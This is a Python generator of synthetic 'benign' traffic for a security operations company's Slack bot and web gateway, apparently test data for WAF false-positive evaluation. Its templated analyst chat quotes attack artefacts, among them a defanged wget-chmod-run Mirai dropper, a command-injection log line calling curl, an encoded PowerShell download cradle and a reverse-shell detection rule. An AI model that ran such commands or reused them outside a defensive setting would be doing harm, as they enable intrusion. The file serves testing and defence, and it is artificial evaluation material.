"""A working day of Ravenwatch, a security operations company (a 24/7 SOC and its developers), on every route of
the edge (benign only).

About 1,700 requests in a deployment's proportions: Slack first (channel chat full of incident tickets, log lines,
IP addresses, user agents and URLs seen in attacks, CVE numbers, SQL and shell, Windows paths and registry keys,
base64 blobs and hashes, firewall and WAF rule talk, YAML and JSON, in many languages; threads, mentions, file
shares, link unfurls, reactions, edits, other bots' posts, App Home), people talking to the bot Jeeves with a
command and an argument (`lookup user <name>`, `weather <city>`, `ticket title: <text>`, `remind me <text>`,
`search <text>`) as events and as `/jeeves <text>` slash commands, button clicks and modal submissions; then the
data API (scripts, CI, SOAR playbooks and dashboards with bearer tokens), the admin panel (searches whose
results pages become the Referer of the next request, user edits, switches, OAuth clients, login), `/me/`
(settings, location, multipart posts from browsers), Sign in with Slack, TokenDealer, health and metadata.

How it was written: by the nineteenth independent evaluator, from the route list of gateway/gateway.yaml (names,
match, methods, upstreams), the handlers in app/ and tokendealer/, README.md and the record structure of
benign_day_gen.py; no WAF rule, exclusion, ruleset or other text list was read, and the texts were not changed
after measuring. Deterministic: one seeded random.Random, no clock. `attacks()` is empty.

Its Slack app core (timestamps, the Events API envelope, access tokens, the POSTs from Slack, a text's emoji, an
edited message's nesting, trigger_id and response_url) comes from evaluator_routes.SlackApp, its web pieces
(form_boundary, multipart_form, form_navigation, form_request, csrf_post, token_request, verify_request,
get_request, cross_site_arrival, signed_in, ga_cookie, cookie_header, me_exit_form, oidc_params, link_preview,
link_visit, link_signin) from evaluator_web.WebApp.
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .evaluator_web import WebApp
from .records import no_attacks, slack_escape

SEED = 19_2024_1119
EPOCH = 1732001400  # 2024-11-19 07:30 UTC, a Tuesday
PREFIX = "evaluation_nineteenth-benign"
TEAM, TEAM_DOMAIN = "T03RVNWTCH", "ravenwatch"
APP_ID, BOT_USER = "A06JVSRVN1", "U04JEEVES7"
HOST = "console.ravenwatch.io"
BASE = f"https://{HOST}"
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
VERIFY_TOKEN = "rWq7TzLk0pXnA2cVb9eYdF3h"  # Slack's legacy verification token field (placeholder)

FIRST = ["Aisling", "Bartholomew", "Chiamaka", "Dariusz", "Eitan", "Farah", "Guðrún", "Hyun-woo", "Ifeoma",
         "Jean-Luc", "Kalani", "Lukáš", "Marisol", "Nikolai", "Oisín", "Paulo", "Radhika", "Saoirse", "Tadeusz",
         "Uchenna", "Violetta", "Xiong", "Yevgenia", "Zeynep", "Ahmad", "Cormac", "Dagny", "Emre", "Fionnuala",
         "Grzegorz", "Hamid", "Itzel", "Jörg", "Kwame", "Lorcan", "Magnús", "Nkechi", "Orla", "Przemysław",
         "Rafaël", "Søren", "Thandiwe", "Ulrike", "Vusi", "Wiremu", "Yosef", "Zuzanna", "Anne-Marie",
         "Mary-Kate", "D'Andre", "Ji-hoon", "Dev", "Sam", "Alex", "Chris", "Pat", "Renée", "Þóra"]
LAST = ["O'Sullivan", "D'Angelo", "McKenzie-Ross", "Al-Farsi", "Nakamura", "Wójcik", "Þórsdóttir", "Ben-David",
        "Adeyemi", "Van Houten", "de la Cruz", "Lindqvist", "Jovanović", "Karlsson", "Okonkwo", "Papadakis",
        "Rahman", "Szabó", "Tremblay", "Vasquez", "Yamamoto", "Zieliński", "Ó Briain", "Bianchi", "Kaur",
        "N'Diaye", "St. Clair", "Fitzgerald-Hughes", "Dąbrowski", "Çelik", "Huang", "Park", "Mbeki", "Whitaker",
        "L'Estrange", "Abara", "Hernández-López", "Iyer", "Svoboda", "Ferreira", "O'Neill", "MacGregor"]
NATIVE_NAMES = ["田中 太郎", "김민지", "Мария Соколова", "محمد الحربي", "יעל כהן", "Νίκος Παπαδόπουλος", "王芳",
                "Nguyễn Thị Hương", "श्रेया शर्मा", "Олександр Шевченко", "Ayşe Yıldız", "สมชาย ใจดี",
                "José María Aznar-Díaz", "Zoë Ó Dónaill", "佐々木 花子", "박서준"]
TIMEZONES = ["Europe/Dublin", "Europe/London", "Europe/Amsterdam", "Europe/Warsaw", "Europe/Prague",
             "Europe/Kyiv", "Europe/Istanbul", "Europe/Athens", "Europe/Reykjavik", "Europe/Berlin",
             "America/New_York", "America/Chicago", "America/Phoenix", "America/Los_Angeles", "America/Halifax",
             "America/Mexico_City", "America/Sao_Paulo", "America/Argentina/Cordoba", "Asia/Tokyo", "Asia/Seoul",
             "Asia/Singapore", "Asia/Kolkata", "Asia/Kathmandu", "Asia/Jerusalem", "Asia/Riyadh", "Asia/Manila",
             "Africa/Lagos", "Africa/Johannesburg", "Australia/Brisbane", "Australia/Adelaide",
             "Pacific/Auckland", "Pacific/Chatham", "UTC"]
CITIES = [
    "Dublin", "Galway", "Cork", "Belfast", "Derry~Londonderry", "Reykjavík", "Akureyri", "Tórshavn", "Bergen",
    "Trondheim", "Uppsala", "Turku", "Tartu", "Kaunas", "Daugavpils", "Gdynia", "Poznań", "Białystok",
    "Bielsko-Biała", "Ostrava", "České Budějovice", "Bratislava", "Košice", "Cluj-Napoca", "Timișoara",
    "Plovdiv", "Niš", "Novi Sad", "Ljubljana", "Zagreb", "Sarajevo", "Tirana", "Thessaloniki", "Heraklion",
    "Tbilisi", "Yerevan", "Baku", "Almaty", "Astana", "Ulaanbaatar", "Tashkent", "Харків", "Одеса", "Дніпро",
    "Новосибирск", "Екатеринбург", "Izmir", "Gaziantep", "Eskişehir", "Haifa", "Be'er Sheva", "עכו",
    "Amman", "بيروت", "الدوحة", "مسقط", "Kuwait City", "Jeddah", "Islamabad", "Lahore", "Pune", "Hyderabad",
    "ಬೆಂಗಳೂರು", "Kochi", "Thiruvananthapuram", "Dhaka", "Kathmandu", "Thimphu", "Chiang Mai", "Đà Nẵng",
    "Huế", "Phnom Penh", "Yogyakarta", "Cebu City", "Quezon City", "Xi'an", "成都", "杭州", "廣州", "高雄",
    "福岡", "仙台", "那覇", "대전", "광주", "Perth", "Hobart", "Darwin", "Dunedin", "Rotorua", "Suva",
    "Kigali", "Kampala", "Dar es Salaam", "Abuja", "Port Harcourt", "Dakar", "N'Djamena", "Ouagadougou",
    "Windhoek", "Durban", "Gqeberha", "Marrakech", "Oran", "Monterrey", "Oaxaca de Juárez", "San José, CR",
    "Medellín", "Quito", "Cusco", "La Paz", "Asunción", "Curitiba", "Belo Horizonte", "Florianópolis",
    "Rosario", "Valparaíso", "Halifax", "Saskatoon", "Trois-Rivières", "Whitehorse", "Coeur d'Alene",
    "Lake Havasu City", "Albuquerque", "Raleigh-Durham", "Martha's Vineyard", "Winston-Salem", "St. Louis",
    "Fort Lauderdale", "Salt Lake City", "Ann Arbor", "Boise", "Juneau", "Hilo", "Cheltenham", "Milton Keynes",
    "Newcastle upon Tyne", "Inverness", "Aberystwyth", "Llandudno", "Kilkenny", "Limerick", "Ennis",
    "Leeuwarden", "Utrecht", "Eindhoven", "Gent", "Namur", "Esch-sur-Alzette", "Basel", "Lausanne", "Graz",
    "Innsbruck", "Regensburg", "Frankfurt am Main", "Halle (Saale)", "Nürnberg", "Freiburg im Breisgau",
    "Aix-en-Provence", "Clermont-Ferrand", "Villeneuve-d'Ascq", "Bordeaux", "Bilbao", "Donostia / San Sebastián",
    "València", "Palma de Mallorca", "Las Palmas de Gran Canaria", "Coimbra", "Braga", "Bologna", "Trieste",
    "Cagliari", "Sant'Agata de' Goti", "D12 YX84", "T12 R2NK", "BT1 5GS", "EH1 1YZ", "60-101 Poznań",
    "1017 CT Amsterdam", "D-80331 München", "F-69002 Lyon", "98101", "02139", "M5V 3L9", "V6B 1A1",
    "Grand Canal Dock, Dublin 2", "1 Infinite Loop, Cupertino", "Piazza San Marco 1, Venezia",
    "Karl-Marx-Allee 90, Berlin", "ul. Piotrkowska 104, Łódź", "Rua Augusta 24, Lisboa",
    "53.3498,-6.2603", "64.1466, -21.9426", "-41.2865,174.7762", "51.5072° N, 0.1276° W", "34.0522,-118.2437",
]
CHANNELS = [("C01SOCFLOOR", "soc-floor"), ("C02INCIDENT", "incidents"), ("C03THREATI", "threat-intel"),
            ("C04DETECTN", "detection-eng"), ("C05DFIR000", "dfir"), ("C06VULNMGT", "vuln-mgmt"),
            ("C07REDTEAM", "red-team"), ("C08PLATFRM", "platform"), ("C09DEVS000", "dev-backend"),
            ("C10WAFOPS0", "waf-ops"), ("C11GENERAL", "general"), ("C12RANDOM0", "random"),
            ("C13CUSTOMR", "customer-escalations"), ("C14ONCALL0", "oncall"), ("C15DUBLIN0", "office-dublin"),
            ("C16KRAKOW0", "office-krakow"), ("C17PHISHNG", "phishing-reports"), ("C18CTFCLUB", "ctf-club")]
CUSTOMERS = ["Halloran Freight", "O'Brien & Sons", "Beaumont-Fitch Legal", "Kowal Logistics", "Nordlys Energi",
             "St. Brigid's Hospital", "Müller & Töchter GmbH", "AT&T reseller (Tri-County)", "Acme Widgets",
             "Sakura Holdings 株式会社", "Baía Azul Seguros", "Pine & Oak Credit Union", "D'Arcy Pharma"]
HOSTS = ["WS-FIN-042", "WS-HR-117", "LT-DEV-0913", "SRV-DC01", "SRV-DC02", "SRV-EXCH-03", "sql-prd-07",
         "web-edge-02", "fw-edge-01", "vpn-gw-ams", "jump01.corp.local", "k8s-node-a14", "FS01.halloran.local",
         "citrix-adc-02", "MAC-DES-221", "build-runner-5"]
TICKETS = ["SOC-4821", "SOC-4833", "SOC-4840", "IR-2024-117", "IR-2024-121", "VULN-889", "DET-312", "WAF-77",
           "PLAT-1290", "CUST-5512", "PHISH-2041", "CHG-30117"]
CVES = ["CVE-2024-3400", "CVE-2023-4966", "CVE-2021-44228", "CVE-2024-21762", "CVE-2023-34362", "CVE-2024-1709",
        "CVE-2023-22515", "CVE-2024-6387", "CVE-2022-1388", "CVE-2023-46805", "CVE-2024-21887", "CVE-2017-0144",
        "CVE-2024-47575", "CVE-2023-20198", "CVE-2019-19781", "CVE-2024-4577", "CVE-2020-1472", "CVE-2024-38063"]
PRODUCTS = ["PAN-OS GlobalProtect", "Citrix NetScaler ADC", "FortiOS SSL-VPN", "MOVEit Transfer",
            "ScreenConnect", "Confluence Data Center", "OpenSSH (regreSSHion)", "BIG-IP iControl REST",
            "Ivanti Connect Secure", "Exchange Server 2019", "FortiManager", "Cisco IOS XE web UI",
            "PHP-CGI on Windows",
            "Windows TCP/IP IPv6", "Netlogon"]
MITRE = ["T1059.001", "T1566.002", "T1078", "T1190", "T1003.001", "T1486", "T1021.001", "T1547.001", "T1105",
         "T1071.001", "T1110.003", "T1218.011", "T1053.005", "T1027"]
ATTACK_UAS = ["Mozilla/5.0 zgrab/0.x", "python-requests/2.28.1", "Go-http-client/1.1", "curl/7.68.0",
              "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
              "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Nuclei - Open-source project "
              "(github.com/projectdiscovery/nuclei)", "sqlmap/1.7.2#stable (https://sqlmap.org)",
              "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", "WinHTTP loader/1.0",
              "Hello World", "l9tcpid/v1.1.0", "CensysInspect/1.1", "Expanse, a Palo Alto Networks company"]
EMOJI = [":eyes:", ":rotating_light:", ":white_check_mark:", ":fire_engine:", ":shield:", ":lock:", ":bug:",
         ":sweat_smile:", ":pray:", ":coffee:", ":raised_hands:", ":thinking_face:", ":skull:", ":mag:",
         ":ship_it_parrot:", ":+1:", ":100:", ":octagonal_sign:", "🔥", "👀", "🙏", "✅", "🚨", "🛡️", "😬",
         "🤞", "💀", "🐛", "🧯", "☕", "🎉", "🙃", "🦝", "🕵️‍♀️"]
REACTIONS = ["eyes", "white_check_mark", "+1", "rotating_light", "pray", "100", "raised_hands", "heavy_plus_sign",
             "ack", "done", "thinking_face", "skull", "fire", "shield", "face_with_monocle", "joy", "tada",
             "this-is-fine", "lock", "bug", "skin-tone-3", "party_blob", "thumbsup_all"]
LINKS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2024-3400",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog?search_api_fulltext=citrix&field_date_added_wrapper=all",
    "https://attack.mitre.org/techniques/T1059/001/",
    "https://github.com/ravenwatch/detections/pull/912",
    "https://github.com/ravenwatch/edge-waf/issues/77#issuecomment-2481136",
    "https://ravenwatch.atlassian.net/browse/SOC-4821?focusedCommentId=66120",
    "https://www.virustotal.com/gui/file/275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    "https://urlscan.io/result/0193409b-5c1e-7aa2-9f4e-1d0c2e6f7a10/",
    "https://otx.alienvault.com/indicator/ip/198.51.100.77",
    "https://www.abuseipdb.com/check/203.0.113.45",
    "https://shodan.io/search?query=http.title%3A%22GlobalProtect+Portal%22+country%3AIE",
    "https://splunk.ravenwatch.io:8000/en-GB/app/search/search?q=search%20index%3Dproxy%20status%3D403&earliest=-24h",
    "https://kibana.internal.ravenwatch.io:5601/app/discover#/?_g=(time:(from:now-15m,to:now))",
    "https://grafana.ravenwatch.io/d/waf-blocks/waf?orgId=1&var-route=admin&from=now-6h&to=now",
    "https://learn.microsoft.com/en-us/windows/security/threat-protection/auditing/event-4625",
    "https://docs.google.com/spreadsheets/d/1RvW8tXq/edit#gid=0&range=A1:F40",
    "https://www.notion.so/ravenwatch/IR-playbook-ransomware-8c2f1e0d",
    "https://status.ravenwatch.io/incidents/ptv4qk9",
    "https://blog.ravenwatch.io/2024/11/hunting-rundll32-abuse/",
    "https://pastebin.com/raw/Xq7bZ2Lm",
    "https://meet.google.com/rvw-soca-bri",
    "https://gchq.github.io/CyberChef/#recipe=From_Base64('A-Za-z0-9%2B/%3D',true)",
    "http://10.20.4.15:9200/_cat/indices?v&s=store.size:desc",
    "https://sentry.ravenwatch.io/organizations/rw/issues/88231/?project=4&query=is%3Aunresolved",
]


def defang(text: str) -> str:
    """How analysts paste an indicator so nothing links it: hxxp and [.]."""
    return text.replace("http", "hxxp").replace(".", "[.]")


# ---- what people write in Slack ----------------------------------------------------------------------------------
# ⟦M⟧ a mention, ⟦L⟧ a link, ⟦C⟧ a channel, ⟦IP⟧ an address, ⟦CVE⟧, ⟦H⟧ a host, ⟦T⟧ a ticket, ⟦SHA⟧ a sha256,
# ⟦MD5⟧, ⟦UA⟧ a scanner's user agent, ⟦CUST⟧ a customer, ⟦N⟧ a number, ⟦CITY⟧ a city.
CHAT = [
    "morning SOC ☕ handover notes are in ⟦T⟧", "gm 👋", "ack", "on it", "looking 👀", "+1", "ty ⟦M⟧!",
    "brb, grabbing lunch", "who has the pager this week?", "lgtm", "np", "nvm, found it", "sec, on a call",
    "⟦T⟧: ⟦CUST⟧ reports 40x failed logins on OWA from ⟦IP⟧, UA `⟦UA⟧` — looks like password spraying (T1110.003)",
    "blocked ⟦IP⟧ at the edge for 24h, it was walking /wp-login.php, /xmlrpc.php and /.env on every vhost",
    "heads up: exploitation of ⟦CVE⟧ in the wild since last night, ⟦CUST⟧ runs the affected version",
    "can someone check whether ⟦H⟧ is patched for ⟦CVE⟧? the scanner still flags it",
    "VT says 12/72 for ⟦SHA⟧ — dropped by the macro in the \"Invoice_Nov.xlsm\" attachment",
    "md5 ⟦MD5⟧ matches the loader we saw at ⟦CUST⟧ in September",
    "IOC list for ⟦T⟧ is pinned, please don't paste live URLs, defang them (hxxp://, [.])",
    "seeing beacons every 60s ±10% jitter from ⟦H⟧ to ⟦IP⟧:443, JA3 72a589da586844d7f0818ce684948eea",
    "closing ⟦T⟧ as false positive: it was the backup agent hitting `C:\\Windows\\System32\\vssadmin.exe list shadows`",
    "the WAF blocked a customer's health check again, rule fired on the `Referer`. tuning ticket: ⟦T⟧",
    "anyone know why the FortiGate at ⟦CUST⟧ drops TCP/8443 from 172.16.40.0/22 since the change?",
    "firewall change CHG-30117 approved: allow 10.12.0.0/16 → 10.40.8.21:5432 (tcp), deny the rest, log both",
    "new sigma rule for `rundll32.exe` with no args is merged ⟦L⟧ 🎉",
    "phish report from ⟦CUST⟧: sender `billing@micros0ft-support[.]com`, link to hxxps://login-m1crosoft[.]com/owa",
    "reminder: tabletop exercise (ransomware scenario) Thursday 14:00 GMT in ⟦C⟧",
    "p1 is closed, postmortem draft: ⟦L⟧ — comments by Friday pls",
    "who owns the `edr-sync` cron? it's 409-ing against the API since 03:12 UTC",
    "DFIR image of ⟦H⟧ uploaded, sha256 ⟦SHA⟧, chain of custody form signed by ⟦M⟧",
    "LOL the red team named their C2 domain `totally-not-c2[.]xyz` 😂",
    "CTF tonight 19:00, category: web + forensics, pizza on the company 🍕",
    "Is ⟦IP⟧ one of ours? It's in the allowlist but nobody remembers adding it",
    "can we get the Splunk HEC token rotated? it was in a screenshot in ⟦C⟧ (screenshot deleted)",
    "I'm seeing `EventID 4625` storms on ⟦H⟧, logon type 3, from ⟦IP⟧",
    "EDR quarantined `C:\\ProgramData\\Microsoft\\DRM\\svchost.exe` on ⟦H⟧ — not the real svchost, obviously",
    "persistence via `HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run` value `OneDriveUpdate` on ⟦H⟧",
    "scheduled task `\\Microsoft\\Windows\\UpdateOrchestrator\\Backup Scan` created by a non-SYSTEM user, "
    "investigating",
    "who's on shift in Kraków tonight? need a second pair of eyes on ⟦T⟧",
    "Guten Morgen! Der Kunde ⟦CUST⟧ meldet Phishing-Mails mit dem Betreff „Ihre Rechnung ist überfällig“",
    "Bonjour, l'alerte ⟦T⟧ concerne un accès RDP depuis ⟦IP⟧ — quelqu'un peut regarder ?",
    "¿Alguien sabe si el parche de ⟦CVE⟧ ya está aplicado en los FortiGate de ⟦CUST⟧?",
    "Dzień dobry! Mam pytanie o regułę WAF-77, czemu blokuje nagłówek `Accept-Language`?",
    "お疲れ様です。⟦CVE⟧ の件、顧客への連絡は完了しました🙏",
    "오늘 야간 근무 교대 가능하신 분? 🙏", "Коллеги, кто смотрел инцидент ⟦T⟧? Там brute force по SSH с ⟦IP⟧",
    "Привіт! Оновив правила на ⟦H⟧, перевірте будь ласка", "שלום, מישהו יכול לבדוק את ההתראה ב-⟦T⟧?",
    "مرحباً، هل تم حظر العنوان ⟦IP⟧ على الجدار الناري؟", "नमस्ते! ⟦T⟧ की रिपोर्ट तैयार है",
    "Olá pessoal, o cliente ⟦CUST⟧ pediu um relatório das tentativas de login bloqueadas",
    "Merhaba, ⟦H⟧ üzerindeki EDR uyarısı yanlış pozitif çıktı", "Chào mọi người, ca đêm nay ai trực vậy?",
    "各位，⟦CVE⟧ 的补丁已经在测试环境验证通过了", "Hej! Kan någon kolla varför ⟦H⟧ inte skickar loggar?",
    "Γεια σας, το ⟦T⟧ έκλεισε ως false positive", "Halo semua, laporan phishing dari ⟦CUST⟧ sudah saya proses",
    "Goedemorgen, de scanner vindt ⟦CVE⟧ nog steeds op ⟦H⟧", "สวัสดีครับ มีใครดู ⟦T⟧ อยู่ไหม",
    "50% of yesterday's blocks came from 3 ASNs (AS14061, AS16276, AS9009), mostly scanners",
    "Our SLA for P1 is 15 min to ack, we hit 11m 42s median in October 💪",
    "the customer says \"we didn't change anything\" 🙃 (they changed the firewall)",
    "pls don't run `nmap -sV -p- ` against customer ranges without the signed RoE in ⟦T⟧",
    "fun: the attacker's UA was literally `⟦UA⟧` lol",
    "weather in ⟦CITY⟧ today is 💀, office is empty",
    "reminder: expense your conference tickets (BSides, FIRST, SANS) before the 25th",
    "we're at 99.93% uptime on the ingest pipeline this month, 0.07% budget left ⚠️",
    "`sudo systemctl restart filebeat` fixed it, root cause: log rotation with copytruncate",
    "the honeypot in ams caught `cd /tmp; wget hxxp://⟦IP⟧/x86; chmod +x x86; ./x86` — Mirai variant again",
    "customer asked whether `X-Forwarded-For: 127.0.0.1` lets anyone skip our WAF. (it doesn't, we only trust the LB)",
    "anyone else get a 502 from console.ravenwatch.io just now?",
    "our CSP report endpoint got 18k reports overnight, all `blocked-uri: chrome-extension`",
    "I'm out Fri–Mon (🏔️ Tatras), ⟦M⟧ covers vuln-mgmt",
    "Happy Diwali to everyone celebrating 🪔✨", "Joyeux anniversaire ⟦M⟧ 🎂🎉",
    "who took the YubiKey from the cabinet in room 3.07? 😅",
]
CODE = [
    "```\n⟦IP⟧ - - [19/Nov/2024:03:12:44 +0000] \"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write "
    "HTTP/1.1\" 404 146 \"-\" \"⟦UA⟧\"\n⟦IP⟧ - - [19/Nov/2024:03:12:45 +0000] \"GET /.git/config HTTP/1.1\" 403 "
    "88 \"-\" \"⟦UA⟧\"\n```",
    "```\nindex=proxy sourcetype=squid status=200 url=\"*.onion.*\" OR url=\"*.bit/*\"\n| stats count by src_ip, "
    "url\n| where count > 5\n```",
    "```sql\nSELECT src_ip, count(*) AS hits, min(ts), max(ts)\nFROM waf_events\nWHERE action = 'block' AND "
    "ts > now() - interval '24 hours'\nGROUP BY src_ip\nORDER BY hits DESC\nLIMIT 25;\n```",
    "quick query for the dashboard: `SELECT rule_id, count(*) FROM waf_events WHERE route = 'admin' GROUP BY 1 "
    "ORDER BY 2 DESC;`",
    "```kql\nDeviceProcessEvents\n| where Timestamp > ago(7d)\n| where FileName =~ \"powershell.exe\" and "
    "ProcessCommandLine has_any (\"-enc\", \"-EncodedCommand\", \"FromBase64String\")\n| project Timestamp, "
    "DeviceName, AccountName, ProcessCommandLine\n```",
    "```\nwevtutil qe Security /q:\"*[System[(EventID=4624 or EventID=4625)]]\" /c:50 /rd:true /f:text\n```",
    "```powershell\nGet-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' |\n  "
    "Format-List *\nGet-ScheduledTask | Where-Object {$_.Author -notlike 'Microsoft*'} | Select TaskName, "
    "TaskPath\n```",
    "```\nreg query \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Parameters\" /v NtpServer\n```",
    "decoded the blob from ⟦H⟧ (`powershell -nop -w hidden -enc ⟦B64⟧`) — it's just a download cradle for "
    "stage 2",
    "```\n$ grep -E ' (401|403) ' /var/log/nginx/access.log | awk '{print $1}' | sort | uniq -c | sort -rn | "
    "head\n   4121 ⟦IP⟧\n    977 ⟦IP⟧\n    102 10.20.4.15\n```",
    "```bash\nfor ip in $(cat iocs.txt); do\n  curl -s \"https://api.abuseipdb.com/api/v2/check?ipAddress=${ip}"
    "&maxAgeInDays=90\" -H \"Key: $ABUSEIPDB_KEY\" | jq -r '.data | [.ipAddress, .abuseConfidenceScore] | "
    "@tsv'\ndone\n```",
    "```yaml\ntitle: Rundll32 Without Command Line Parameters\nid: 1775e15e-b61b-4d14-a1a3-80981298085a\n"
    "status: test\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n"
    "    Image|endswith: '\\rundll32.exe'\n    CommandLine|endswith: 'rundll32.exe'\n  condition: selection\n"
    "level: high\n```",
    "```json\n{\"rule_id\": 942100, \"route\": \"admin\", \"matched\": \"ARGS:q\", \"client\": \"⟦IP⟧\", "
    "\"action\": \"block\", \"request_id\": \"edge-1-1732003125-88-1\"}\n```",
    "```\nrule ravenwatch_loader_nov24 {\n  meta:\n    author = \"dfir\"\n    date = \"2024-11-18\"\n  strings:\n"
    "    $s1 = \"WinHTTP loader/1.0\" ascii\n    $s2 = { 4D 5A 90 00 03 00 00 00 }\n  condition:\n    $s2 at 0 "
    "and $s1\n}\n```",
    "```\niptables -I INPUT -s ⟦IP⟧ -j DROP\nip6tables -I INPUT -s 2001:db8:85a3::8a2e:370:7334 -j DROP\n"
    "nft add rule inet filter input ip saddr ⟦IP⟧ counter drop\n```",
    "```\naccess-list OUTSIDE_IN extended deny tcp any host 10.40.8.21 eq 3389 log\naccess-list OUTSIDE_IN "
    "extended permit tcp 198.51.100.0 255.255.255.0 host 10.40.8.21 eq 443\n```",
    "```\nTraceback (most recent call last):\n  File \"/opt/enrich/worker.py\", line 214, in lookup\n    "
    "r.raise_for_status()\nrequests.exceptions.HTTPError: 429 Client Error: Too Many Requests for url: "
    "https://www.virustotal.com/api/v3/files/⟦SHA⟧\n```",
    "```\n2024-11-19T06:58:03Z WARN  edge waf block rule=920350 uri=\"/api/users?limit=500\" ip=⟦IP⟧ "
    "ua=\"python-requests/2.32.3\"\n```",
    "```\nkubectl -n ingest rollout restart deploy/logstash && kubectl -n ingest rollout status "
    "deploy/logstash --timeout=5m\n```",
    "```\n$ echo 'aGVsbG8gZnJvbSB0aGUgU09DIHRlYW0K' | base64 -d\nhello from the SOC team\n```",
    "```\ncertutil -hashfile C:\\Users\\Public\\Documents\\update.dll SHA256\nSHA256 hash of "
    "C:\\Users\\Public\\Documents\\update.dll:\n⟦SHA⟧\n```",
    "```\nsha256sum evidence/⟦H⟧.E01\n⟦SHA⟧  evidence/⟦H⟧.E01\n```",
    "```go\nif err := json.NewDecoder(r.Body).Decode(&ev); err != nil {\n\thttp.Error(w, \"bad event\", "
    "http.StatusBadRequest)\n\treturn\n}\n```",
    "```diff\n-  paranoia_level: 1\n+  paranoia_level: 2\n   anomaly_threshold: 5\n```\nthoughts before I "
    "merge this for the staging edge?",
    "```\nSecurityEvent\n| where EventID == 4688 and CommandLine contains \"vssadmin delete shadows /all "
    "/quiet\"\n```",
    "```\nC:\\> netstat -ano | findstr :4444\n  TCP    10.20.31.9:50122   ⟦IP⟧:4444   ESTABLISHED   6612\n```",
    "```\nalert tcp $HOME_NET any -> $EXTERNAL_NET 4444 (msg:\"RW possible reverse shell\"; flow:established,"
    "to_server; sid:9000121; rev:3;)\n```",
]
LONG = [
    "*Incident ⟦T⟧ — update 08:40 UTC*\n• Customer: ⟦CUST⟧\n• Vector: ⟦CVE⟧ (⟦PROD⟧), first hit "
    "03:12 UTC from ⟦IP⟧\n• Impact: webshell dropped at `/var/appweb/sslvpndocs/global-protect/portal/css/"
    "bootstrap.min.css` (not executed)\n• Containment: device isolated, hotfix applied, creds rotated\n"
    "• Next update: 10:00 UTC\ncc ⟦M⟧ ⟦M⟧",
    "Shift handover :wave:\n```\nOPEN   ⟦T⟧  brute force on OWA (⟦CUST⟧) - monitoring\nOPEN   ⟦T⟧  EDR: "
    "suspicious rundll32 on ⟦H⟧ - waiting for customer\nCLOSED ⟦T⟧  FP: backup agent\n```\nnothing paged "
    "after 02:00 🎉",
    "> From: security@⟦CUSTD⟧\n> Subject: RE: Suspicious sign-ins\n> Hi team, we see logins from Lagos and "
    "Dublin within 5 minutes for j.o'connor@⟦CUSTD⟧. Is this impossible travel?\n\nYes — one is the VPN egress "
    "(Dublin), the other is the real one. Replying now, ⟦M⟧ FYI.",
    "Detection review for this week:\n1. `DET-312` LSASS access by non-system process → *merged*\n2. `DET-318` "
    "WMI persistence (`__EventFilter` + `CommandLineEventConsumer`) → needs tuning, 40 FPs/day from SCCM\n"
    "3. `DET-321` DNS to newly registered domains (< 7 days) → shadow mode\nThanks ⟦M⟧ :raised_hands:",
    "Runbook reminder for phishing triage:\n- [ ] pull headers (`Received:`, `Return-Path:`, DKIM/SPF/DMARC)\n"
    "- [ ] detonate attachment in the sandbox, never on a workstation\n- [ ] defang URLs before pasting "
    "(hxxps://evil[.]example/login)\n- [ ] search mailboxes: `Search-Mailbox -SearchQuery 'subject:\"Invoice "
    "overdue\"'`\n- [ ] purge + block sender",
    "WAF tuning proposal (⟦T⟧):\nThe admin search box fires on names like \"O'Brien & Sons\" and on queries "
    "like `smith OR jones`. Options:\n a) mark `ARGS:q` as free text on /admin/users\n b) lower paranoia "
    "for that route\n c) do nothing and tell people to search without quotes 🙃\nI vote (a). Objections by EOD?",
    "Vuln scan summary for ⟦CUST⟧ (⟦N⟧ hosts):\n| severity | count |\n|---|---|\n| critical | 3 |\n| high | "
    "17 |\n| medium | 88 |\nTop items: ⟦CVE⟧ on 2 edge devices, SMBv1 still on FS01 (MS17-010 / "
    "CVE-2017-0144!), expired TLS cert on mail.⟦CUSTD⟧:8443",
    "For the blog post on this week's campaign, the IOCs (defanged):\n```\nhxxp://⟦DIP⟧/wp-content/uploads/"
    "2024/11/inv.zip\nhxxps://cdn-update[.]top/a.php?id=⟦N⟧\n⟦SHA⟧\n⟦SHA⟧\n```\nTLP:CLEAR after the customer "
    "OKs it.",
    "Reading the log line from ⟦T⟧ again:\n`⟦IP⟧ - - [18/Nov/2024:22:41:07 +0000] \"POST /api/v1/totp/"
    "user-backup-code/../../license/keys-status/%3Bcurl%20⟦DIP⟧ HTTP/1.1\" 403 0 \"-\" \"curl/8.4.0\"`\nThat's "
    "the ⟦PROD⟧ chain, and our edge returned 403. Nothing behind it. Closing as blocked attempt.",
    "Office news 📣\n• Dublin: new badge readers on floor 2 from Monday, old badges stop working 25/11\n"
    "• Kraków: Wi‑Fi `RW-Guest` password changed, ask reception\n• Everyone: security awareness training due "
    "30 Nov — yes, even us 😅",
]
# Bot commands: ⟦NAME⟧ a person, ⟦CITY⟧, ⟦TITLE⟧ a ticket title, ⟦REMIND⟧, ⟦SEARCH⟧ a search, ⟦TZ⟧, ⟦TIME⟧.
COMMANDS = [
    "lookup user ⟦NAME⟧", "lookup user ⟦NAME⟧", "lookup user ⟦NAME⟧?", "lookup user ⟦EMAIL⟧",
    "lookup user ⟦M⟧", "can you lookup user ⟦NAME⟧ please", "lookup user `⟦HANDLE⟧`",
    "who is ⟦NAME⟧? lookup user ⟦HANDLE⟧", "lookup user ⟦NAME⟧ 🙏",
    "weather ⟦CITY⟧", "weather ⟦CITY⟧", "weather in ⟦CITY⟧?", "what's the weather in ⟦CITY⟧ tomorrow?",
    "weather ⟦CITY⟧ ☔", "weather", "Weather ⟦CITY⟧ pls", "remember location ⟦CITY⟧", "is it snowing in ⟦CITY⟧??",
